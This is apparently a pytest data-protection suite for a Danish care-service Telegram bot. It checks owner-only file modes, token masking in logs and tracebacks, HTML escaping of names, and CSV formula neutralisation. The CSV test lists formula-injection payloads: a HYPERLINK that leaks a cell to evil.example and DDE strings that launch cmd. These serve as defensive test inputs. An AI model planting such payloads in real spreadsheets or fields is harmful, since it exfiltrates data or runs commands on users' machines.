"""What a data-protection review looks for: files only the owner can read, a token no log
shows, a CSV no spreadsheet runs, and names that read as written wherever they are shown.

The bot runs as the operator runs it (``python -m bot run`` as a process, umask 022, its
stderr read as it comes) for files and the token; in the harness for the chat.
"""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import shutil
import sqlite3
import stat
import sys
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager, closing
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from aiohttp import web

from bot.logs import HIDDEN, HideToken
from bot.render.callbacks import TicketAction, ticket_data
from bot.render.safe_csv import FORMULA_STARTS
from bot.storage.citizens import CitizenRow
from state.roles import Role
from tests.conftest import BOT_USERNAME, TOKEN
from tests.harness import Harness, register_citizens, text_of
from tests.operator import ROOT, environment
from tgemu.client import EmulatorClient
from tgemu.server import BotApiEmulator

SECRET = TOKEN.split(":")[1]
"""The token's secret half: enough on its own to act as the bot."""

SAY_WITHIN = 15.0
"""Seconds within which the bot must say what the test waits for."""

UMASK = 0o022
"""The umask a server account usually has: new files 0644, new folders 0755."""

HTTPX_AT_DEBUG = """\
import logging
import sys

import bot.cli

production = bot.cli.setup_logging


def setup_logging(*args, **kwargs):
    production(*args, **kwargs)
    for name in ("httpx", "httpcore"):  # as an operator chasing a network problem would
        logging.getLogger(name).setLevel(logging.DEBUG)


bot.cli.setup_logging = setup_logging
sys.exit(bot.cli.main(["run"]))
"""


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


class Stderr:
    """A running process's stderr, read line by line as it comes (so the pipe never fills)."""

    def __init__(self, stream: asyncio.StreamReader) -> None:
        self.lines: list[str] = []
        self._reading = asyncio.create_task(self._read(stream))

    async def _read(self, stream: asyncio.StreamReader) -> None:
        while raw := await stream.readline():
            self.lines.append(raw.decode("utf-8", "replace"))

    @property
    def text(self) -> str:
        return "".join(self.lines)

    async def line_with(self, words: str) -> str:
        """The first line holding the words, within SAY_WITHIN seconds."""
        loop = asyncio.get_running_loop()
        deadline = loop.time() + SAY_WITHIN
        while loop.time() < deadline:
            for line in self.lines:
                if words in line:
                    return line
            if self._reading.done():
                break
            await asyncio.sleep(0.05)
        raise AssertionError(f"the bot never said {words!r}:\n{self.text}")

    async def to_the_end(self) -> None:
        await asyncio.wait_for(self._reading, SAY_WITHIN)


@asynccontextmanager
async def running_bot(env: dict[str, str], workdir: Path, *args: str) -> AsyncIterator[Stderr]:
    """``python ARGS`` (``-m bot run`` unless told) in workdir; stopped as an operator stops it."""
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        *(args or ("-m", "bot", "run")),
        cwd=workdir,
        env=env,
        stdin=asyncio.subprocess.DEVNULL,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.PIPE,
        umask=UMASK,
    )
    assert process.stderr is not None
    stderr = Stderr(process.stderr)
    try:
        yield stderr
    finally:
        if process.returncode is None:
            process.terminate()
        await asyncio.wait_for(process.wait(), SAY_WITHIN)
        await stderr.to_the_end()


def workdir_of(tmp_path: Path) -> Path:
    """The operator's working directory: no stray .env unless a test puts one there."""
    workdir = tmp_path / "work"
    workdir.mkdir(exist_ok=True)
    return workdir


# 1. Files readable by the owner only.


async def test_a_first_start_makes_the_database_its_wal_and_shm_and_its_folder_owner_only(
    tmp_path: Path, emulator: BotApiEmulator
) -> None:
    data = tmp_path / "data"
    database = data / "bekey.sqlite3"
    env = environment(emulator.base_url, database)

    async with running_bot(env, workdir_of(tmp_path)) as stderr:
        await stderr.line_with("Application started")
        async with EmulatorClient(emulator.base_url) as client:  # a write: the WAL is in use
            await client.send_text(4242, "hej", first_name="Stranger")
            await client.wait_for_message(4242, timeout=SAY_WITHIN)
        wal = database.with_name("bekey.sqlite3-wal")
        shm = database.with_name("bekey.sqlite3-shm")
        modes = {path.name: mode_of(path) for path in (data, database, wal, shm)}

    assert modes == {
        "data": 0o700,
        "bekey.sqlite3": 0o600,
        "bekey.sqlite3-wal": 0o600,
        "bekey.sqlite3-shm": 0o600,
    }
    assert "open to other users" not in stderr.text


async def test_files_others_can_read_are_named_at_start_by_path_and_mode_never_by_contents(
    tmp_path: Path, emulator: BotApiEmulator
) -> None:
    data = tmp_path / "data"
    data.mkdir()
    data.chmod(0o755)
    database = data / "bekey.sqlite3"
    with closing(sqlite3.connect(database)) as conn:  # made by hand, before the bot's time
        conn.execute("PRAGMA user_version")
    database.chmod(0o644)
    workdir = workdir_of(tmp_path)
    env_file = workdir / ".env"
    env_file.write_text(f"TELEGRAM_BOT_TOKEN={TOKEN}\n", encoding="utf-8")
    env_file.chmod(0o644)
    env = environment(emulator.base_url, database)
    del env["TELEGRAM_BOT_TOKEN"]  # the token comes from .env, as in production

    async with running_bot(env, workdir) as stderr:
        await stderr.line_with("Application started")  # a warning, not a refusal

    warnings = [line for line in stderr.lines if "open to other users" in line]
    assert len(warnings) == 3, stderr.text
    for path, mode, wanted in (
        (data, "0755", "0700"),
        (database, "0644", "0600"),
        (env_file, "0644", "0600"),
    ):
        [line] = [line for line in warnings if f"{path} is open" in line]
        assert f"(mode {mode}; should be {wanted})" in line
    assert SECRET not in stderr.text


async def test_the_run_script_makes_env_readable_by_its_owner_only(tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / "scripts").mkdir(parents=True)
    shutil.copy(ROOT / "scripts" / "run-bot.sh", project / "scripts" / "run-bot.sh")
    shutil.copy(ROOT / ".env.example", project / ".env.example")
    (project / "scripts" / "setup.sh").write_text("exit 0\n")  # set up already
    python = project / ".venv" / "bin" / "python"
    python.parent.mkdir(parents=True)
    python.write_text("#!/bin/sh\nexit 0\n")  # the bot itself is not what is tested here
    python.chmod(0o755)

    script = await asyncio.create_subprocess_exec(
        "bash",
        str(project / "scripts" / "run-bot.sh"),
        stdin=asyncio.subprocess.DEVNULL,
        umask=UMASK,
    )
    await asyncio.wait_for(script.wait(), SAY_WITHIN)

    assert script.returncode == 0
    env_file = project / ".env"
    assert mode_of(env_file) == 0o600
    assert env_file.read_bytes() == (project / ".env.example").read_bytes()


# 2. The token, hidden in every log record and traceback.


def test_a_record_and_a_traceback_holding_the_token_come_out_with_it_hidden() -> None:
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.addFilter(HideToken(TOKEN))
    log = logging.getLogger("tests.hidden_token")
    log.addHandler(handler)
    log.propagate = False
    url = f"http://127.0.0.1:8081/bot{TOKEN}/getMe"
    try:
        log.warning("HTTP Request: POST %s", url)
        log.warning("encoded: %(url)s", {"url": quote(url, safe="")})
        log.warning(f"in the message itself: {url}")  # as a careless caller would
        log.warning("as an object: %r", Path(url))
        log.warning("secret alone: %s", SECRET)
        try:
            try:
                raise ValueError(f"The token `{TOKEN}` was rejected by the server.")
            except ValueError as rejected:
                raise RuntimeError(f"while asking {url}") from rejected
        except RuntimeError:
            log.exception("start failed")
    finally:
        log.removeHandler(handler)

    printed = out.getvalue()
    for form in (TOKEN, SECRET, quote(TOKEN, safe="")):
        assert form not in printed
    assert f"HTTP Request: POST http://127.0.0.1:8081/bot{HIDDEN}/getMe" in printed
    assert f"encoded: http%3A%2F%2F127.0.0.1%3A8081%2Fbot{HIDDEN}%2FgetMe" in printed
    assert f"secret alone: {HIDDEN}" in printed
    assert printed.count("Traceback (most recent call last)") == 2
    assert f"ValueError: The token `{HIDDEN}` was rejected by the server." in printed


async def test_setup_logging_hides_the_token_on_the_root_handler_and_in_an_uncaught_traceback(
    tmp_path: Path,
) -> None:
    code = (
        "import logging\n"
        "from bot.logs import setup_logging\n"
        f"token = {TOKEN!r}\n"
        "setup_logging(token=token)\n"
        "logging.getLogger('httpx').warning('HTTP Request: POST http://x/bot%s/getMe', token)\n"
        "raise RuntimeError(f'The token `{token}` was rejected by the server.')\n"
    )
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-c",
        code,
        cwd=tmp_path,
        env=environment("http://127.0.0.1:9", tmp_path / "bekey.sqlite3"),
        stderr=asyncio.subprocess.PIPE,
    )
    _, err = await asyncio.wait_for(process.communicate(), SAY_WITHIN)

    printed = err.decode()
    assert process.returncode == 1
    assert f"HTTP Request: POST http://x/bot{HIDDEN}/getMe" in printed
    assert f"RuntimeError: The token `{HIDDEN}` was rejected by the server." in printed
    assert "Traceback (most recent call last)" in printed
    assert SECRET not in printed


async def test_a_start_with_httpx_logging_at_debug_shows_no_token(
    tmp_path: Path, emulator: BotApiEmulator
) -> None:
    env = environment(emulator.base_url, tmp_path / "bekey.sqlite3")

    async with running_bot(env, workdir_of(tmp_path), "-c", HTTPX_AT_DEBUG) as stderr:
        await stderr.line_with("Application started")
        async with EmulatorClient(emulator.base_url) as client:
            await client.send_text(4242, "hej", first_name="Stranger")
            await client.wait_for_message(4242, timeout=SAY_WITHIN)
        await stderr.line_with("/sendMessage")

    requests = [line for line in stderr.lines if "HTTP Request:" in line]
    assert any(f"/bot{HIDDEN}/getMe" in line for line in requests), stderr.text
    assert any(f"/bot{HIDDEN}/sendMessage" in line for line in requests)
    assert any("httpcore" in line for line in stderr.lines), "httpcore logged at DEBUG"
    assert SECRET not in stderr.text


Answer = Callable[[str, int], tuple[int, dict[str, Any]]]
"""How a fake Bot API answers the n-th call (from 1) of a method: HTTP status, JSON body."""

BOT_USER = {"id": 123456789, "is_bot": True, "first_name": "Bekey", "username": BOT_USERNAME}


def _forbidden(method: str, n: int) -> tuple[int, dict[str, Any]]:
    return 403, {"ok": False, "error_code": 403, "description": "Forbidden: bot was banned"}


def _rejected_on_the_second_ask(method: str, n: int) -> tuple[int, dict[str, Any]]:
    if method == "getMe" and n == 1:
        return 200, {"ok": True, "result": BOT_USER}
    return 401, {"ok": False, "error_code": 401, "description": "Unauthorized"}


@asynccontextmanager
async def fake_bot_api(answer: Answer) -> AsyncIterator[str]:
    """A Bot API that answers every call as told; yields its root URL."""
    calls: dict[str, int] = {}

    async def handle(request: web.Request) -> web.Response:
        method = request.match_info["method"]
        calls[method] = calls.get(method, 0) + 1
        status, body = answer(method, calls[method])
        return web.json_response(body, status=status)

    app = web.Application()
    app.router.add_route("*", "/{bot}/{method}", handle)
    runner = web.AppRunner(app, access_log=None, handle_signals=False)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    try:
        yield f"http://127.0.0.1:{runner.addresses[0][1]}"
    finally:
        await runner.cleanup()


@pytest.mark.parametrize(
    ("answer", "error"),
    [
        (_forbidden, "error: the bot could not start (Forbidden: Forbidden: bot was banned)"),
        (
            _rejected_on_the_second_ask,
            "error: TELEGRAM_BOT_TOKEN was rejected by the Bot API: check the token from "
            "@BotFather",
        ),
    ],
    ids=["refused-at-the-first-ask", "rejected-when-the-application-asks"],
)
async def test_any_failure_at_start_is_one_line_without_the_token_and_exit_2(
    tmp_path: Path, answer: Answer, error: str
) -> None:
    async with fake_bot_api(answer) as root:
        env = environment(root, tmp_path / "bekey.sqlite3", LOCK_PARTNER_PHONE="55 66 77 88")
        process = await asyncio.create_subprocess_exec(
            sys.executable,
            "-m",
            "bot",
            "run",
            cwd=workdir_of(tmp_path),
            env=env,
            stdin=asyncio.subprocess.DEVNULL,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.PIPE,
        )
        out, err = await asyncio.wait_for(process.communicate(), 30)

    printed = (out + err).decode()
    assert process.returncode == 2, printed
    assert [line for line in printed.splitlines() if line.startswith("error:")] == [error]
    assert printed.splitlines()[-1] == error
    assert SECRET not in printed
    if answer is _forbidden:  # nothing else went wrong: the log lines and that one line
        assert "Traceback" not in printed


# 3. No CSV the bot writes is run as a formula.

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)


async def test_names_that_spreadsheets_would_run_come_back_as_text_in_the_invite_file(
    bot: Harness,
) -> None:
    kim = await bot.employee("kp01", Role.KEY_PERSON)
    staff = io.StringIO()
    writer = csv.writer(staff)
    writer.writerow(["user_id", "name", "role", "unit"])
    for n, name in enumerate(FORMULAS, start=1):
        writer.writerow([f"sub0{n}", name, "afløser", "Hjemmepleje Nord"])
    writer.writerow(["-nat01", "Nanna Vagt", "nattevagt", "Hjemmepleje Nord"])

    replies = await kim.send_document("hold.csv", staff.getvalue().encode())

    sent = replies[-1]
    assert sent.document is not None and sent.document["file_name"] == "invitationer.csv"
    header, *rows = list(csv.reader(io.StringIO(await bot.client.document_text(sent))))
    assert header == ["user_id", "name", "role", "link"]
    assert [row[1] for row in rows] == ["'" + name for name in FORMULAS] + ["Nanna Vagt"]
    assert [row[0] for row in rows] == ["sub01", "sub02", "sub03", "sub04", "'-nat01"]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert all(row[3].startswith(f"https://t.me/{BOT_USERNAME}?start=") for row in rows)
    assert (await bot.employee_record("sub01")).name == FORMULAS[0]  # stored as written


# 4. Names read as written: plain on buttons, escaped only inside HTML messages.

BO = "Hansen & Søn <Bo>"
BO_HTML = "Hansen &amp; Søn &lt;Bo&gt;"
ADDRESS = "Bakken 4, 4640 Faxe"
BO_BUTTON = f"{BO} · {ADDRESS}"
PER = "Per&Co <Plan>"


@pytest.fixture
async def bo(bot: Harness) -> None:
    """Hansen & Søn <Bo>, a Bekey citizen of Hjemmepleje Nord."""
    row = CitizenRow("B-301", BO, ADDRESS, "Hjemmepleje Nord", "bagdør")
    await register_citizens(bot, (row,))


@pytest.mark.usefixtures("bo")
async def test_a_citizen_named_hansen_and_son_reads_as_written_in_a_report_and_the_lists(
    bot: Harness,
) -> None:
    anna = await bot.employee("ab1234", Role.CAREGIVER, name="Anna Jensen")
    per = await bot.employee("pl01", Role.PLANNER, name=PER)
    pia = await bot.employee("pl02", Role.PLANNER, name="Pia Planner")

    await anna.say("/fejl")
    [asked] = await anna.say("Søn <Bo>")
    assert asked.buttons == [BO_BUTTON, "✍ Ikke på listen: brug «Søn <Bo>»", "✖ Annuller"]
    await anna.press(BO_BUTTON, asked)
    step = await anna.last()
    assert f"Borger: {BO}, {ADDRESS} (Bekey: bagdør)" in text_of(step)
    assert step.html is not None and BO_HTML in step.html
    for answer in ("Ja", "Ja", "Nej"):
        await anna.press(answer)
    await anna.press("📨 Send uden beskrivelse")
    card = await pia.last()
    assert f"Borger: {BO}, {ADDRESS}" in text_of(card)

    [mine] = await anna.say("/mine")
    assert f"· {BO} ·" in text_of(mine)
    assert mine.buttons == ["✖ Træk F-0001 tilbage"]

    [listing] = await per.say("/sager")
    assert f"· {BO} ·" in text_of(listing)
    assert listing.buttons == [f"🚪 F-0001 · {BO} · åben"]
    _, [shown] = await per.press(f"🚪 F-0001 · {BO} · åben", listing)
    assert f"Borger: {BO}, {ADDRESS}" in text_of(shown)
    await per.press("✋ Tag sagen", shown)
    assert f"Status: taget af {PER}" in text_of(await pia.message_by_id(card.message_id))

    [listing] = await per.say("/sager")
    assert listing.buttons == ["🚪 F-0001 · Hansen & S… · taget af Per&Co"]

    too_late, _ = await pia.press("", card, forge_data=ticket_data(1, TicketAction.TAKE))
    assert too_late == f"F-0001 er allerede taget af {PER}."


@pytest.mark.usefixtures("bo")
async def test_a_citizen_named_hansen_and_son_reads_as_written_in_an_emergency(
    bot: Harness,
) -> None:
    anna = await bot.employee("ab1234", Role.CAREGIVER, name="Anna Jensen")
    per = await bot.employee("pl01", Role.PLANNER, name=PER)

    [card] = await anna.say("/akut")
    assert card.buttons == [BO_BUTTON, "📶 Mobilnettet er nede"]
    await anna.press(BO_BUTTON, card)

    filled = await anna.message_by_id(card.message_id)
    assert f"Hos hvilken borger nøglen ikke virker: {BO}, {ADDRESS}" in text_of(filled)
    assert filled.html is not None and BO_HTML in filled.html
    assert BO in text_of(await per.last())
